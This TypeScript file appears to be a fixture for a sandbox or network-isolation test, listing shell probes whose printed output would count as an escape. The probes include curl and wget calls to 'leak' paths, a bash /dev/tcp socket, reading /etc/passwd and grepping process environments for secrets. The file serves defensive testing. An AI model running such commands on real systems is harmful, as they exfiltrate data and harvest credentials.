import type { Attempt } from './attempt.ts';

/** From a shell script: what it prints counts as got through. */
export const fromTheShell: readonly Attempt[] = [
  { name: 'curl to a foreign address', code: 'curl -sS "$PORTAL/leak-curl"' },
  { name: 'curl to a file', code: 'curl -s file:///etc/passwd' },
  { name: 'wget', code: 'wget -qO- "$PORTAL/leak-wget"' },
  {
    name: 'a socket of bash',
    code: 'exec 3<>"/dev/tcp/localhost/$(echo "$PORTAL" | cut -d: -f3)" && printf "GET /leak-tcp HTTP/1.0\\r\\n\\r\\n" >&3 && head -1 <&3',
  },
  {
    name: 'the environment of the machine',
    code: 'cat /proc/self/environ /proc/1/environ | tr "\\\\0" "\\\\n" | grep -i secret',
  },
  {
    name: 'other languages',
    code: 'js-exec -c "console.log(1)"; python3 -c "print(1)"; node -e "console.log(1)"',
  },
];
